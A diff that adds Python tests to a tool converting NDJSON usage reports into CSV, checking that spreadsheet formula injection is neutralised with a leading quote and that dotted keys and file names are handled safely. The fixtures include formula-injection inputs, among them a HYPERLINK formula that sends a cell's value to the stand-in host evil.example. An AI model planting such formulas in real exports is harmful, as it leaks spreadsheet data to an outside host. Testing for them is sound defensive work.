@@ -349,3 +349,82 @@ def test_every_object_line_becomes_one_row_with_the_same_header(tmp_path: Path, 
     assert table[0] == [*schema.columns(schema.report_named(report).kind), "other_fields"]
     assert len(table) - 1 == objects
     assert all(len(row) == len(table[0]) for row in table)
+
+
+def test_text_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(tmp_path: Path) -> None:
+    source = tmp_path / "users.ndjson"
+    line = {
+        "day": "2026-03-02",
+        "user_id": 1,
+        "user_login": "@SUM(1+1)",
+        "loc_deleted_sum": -3,
+        "ai_credits_used": -0.5,
+        "totals_by_ide": [
+            {"ide": '=HYPERLINK("https://evil.example/?"&C2,"open")', "code_generation_activity_count": 1},
+            {"ide": "+cmd", "last_known_ide_version": {"ide_version": "-2+3"}},
+            {"ide": "\tvscode"},
+            {"ide": "\rvscode"},
+            {"ide": "vscode=1"},
+        ],
+    }
+    source.write_text(json.dumps(line) + "\n")
+
+    written = tabular.write_csv(source, "users-1-day")
+
+    main = read(written[0])[0]
+    assert main["user_login"] == "'@SUM(1+1)"
+    assert (main["loc_deleted_sum"], main["ai_credits_used"]) == ("-3", "-0.5")
+    by_ide = read(written[1])
+    assert [row["ide"] for row in by_ide] == [
+        '\'=HYPERLINK("https://evil.example/?"&C2,"open")',
+        "'+cmd",
+        "'\tvscode",
+        "'\rvscode",
+        "vscode=1",
+    ]
+    assert by_ide[1]["last_known_ide_version.ide_version"] == "'-2+3"
+    assert by_ide[0]["user_login"] == "'@SUM(1+1)"
+    assert by_ide[0]["code_generation_activity_count"] == "1"
+
+
+def test_a_formula_in_an_undocumented_field_cannot_start_the_other_fields_cell(tmp_path: Path) -> None:
+    source = tmp_path / "teams.ndjson"
+    source.write_text('{"day":"2026-03-02","slug":"web","=cmd":"x"}\n')
+
+    main = tabular.write_csv(source, "user-teams-1-day")[0]
+
+    assert read(main)[0]["other_fields"] == '{"=cmd":"x"}'
+
+
+def test_colliding_dotted_keys_keep_every_value(tmp_path: Path) -> None:
+    source = tmp_path / "org.ndjson"
+    source.write_text(
+        '{"day":"2026-03-02","a.b":1,"a":{"b":2},"pull_requests.total_created":5,"pull_requests":{"total_created":2}}\n'
+    )
+
+    main = tabular.write_csv(source, "organization-1-day")[0]
+
+    row = read(main)[0]
+    assert row["pull_requests.total_created"] == "2"
+    assert json.loads(row["other_fields"]) == {"a\\.b": 1, "a.b": 2, "pull_requests\\.total_created": 5}
+    assert tabular.flatten({"a.b": 1, "a": {"b": 2}, "c\\": {"d": 3}}) == {"a\\.b": 1, "a.b": 2, "c\\\\.d": 3}
+
+
+def test_only_ndjson_files_are_converted(tmp_path: Path) -> None:
+    downloaded = tmp_path / "report.csv"
+    downloaded.write_text("GitHub's own file\n")
+    other = tmp_path / "report.json"
+    other.write_text('{"day":"2026-03-02"}\n')
+
+    assert tabular.write_csv(downloaded, "users-1-day") == []
+    assert tabular.write_csv(other, "users-1-day") == []
+    assert downloaded.read_text() == "GitHub's own file\n"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.csv", "report.json"]
+
+
+def test_every_name_a_conversion_writes_is_a_reserved_name(tmp_path: Path) -> None:
+    for report in schema.REPORTS:
+        for path in tabular.csv_paths(tmp_path / "x.ndjson", report):
+            assert tabular.is_derived_name(path.name)
+    assert tabular.is_derived_name("REPORT.CSV")
+    assert not tabular.is_derived_name("report.ndjson")
